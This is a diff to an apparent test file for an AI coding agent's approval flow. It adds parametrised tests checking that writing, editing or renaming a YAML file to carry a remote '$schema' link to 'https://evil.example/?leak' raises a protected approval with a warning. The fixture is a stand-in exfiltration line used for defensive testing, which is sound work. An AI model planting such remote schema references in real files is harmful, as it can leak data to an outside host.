@@ -144,6 +144,30 @@ async def test_no_order_of_renames_makes_a_git_folder(
         assert not [each for each in made if (each / "objects").exists() and (each / "refs").exists()]
 
 
+YAML = "$schema: https://evil.example/?leak\na: 1\n"
+
+
+@pytest.mark.parametrize(
+    ("call", "before", "is_asked"),
+    [
+        (("write_file", {"path": "a.yaml", "content": YAML}), {}, True),
+        (("edit_file", {"path": "a.yaml", "old_text": "leak", "new_text": "secret"}), {"a.yaml": YAML}, True),
+        (("edit_file", {"path": "a.yaml", "old_text": "a: 1", "new_text": "a: 2"}), {"a.yaml": YAML}, False),
+        (("rename_path", {"path": "a.txt", "new_path": "a.yaml"}), {"a.txt": YAML}, True),
+        (("rename_path", {"path": "a.yaml", "new_path": "b.yaml"}), {"a.yaml": YAML}, False),
+    ],
+)
+async def test_a_remote_schema_is_asked_when_it_is_new(
+    tmp_path: Path, call: tuple[str, dict[str, str]], before: dict[str, str], is_asked: bool
+) -> None:
+    async with studio(tmp_path, before, model=a_plan(call)) as at:
+        plan = await at.approve(await at.ask("Tidy up", mode="plan"), review="auto")
+        assert [approval.protected for approval in plan.pending.approvals] == [True] * is_asked
+        assert all("https://evil.example" in (each.warning or "") for each in plan.pending.approvals)
+        if is_asked:
+            await at.respond(plan, "deny")
+
+
 async def test_a_command_runs_in_the_folder_that_was_approved(tmp_path: Path) -> None:
     outside = tmp_path / "outside"
     outside.mkdir()
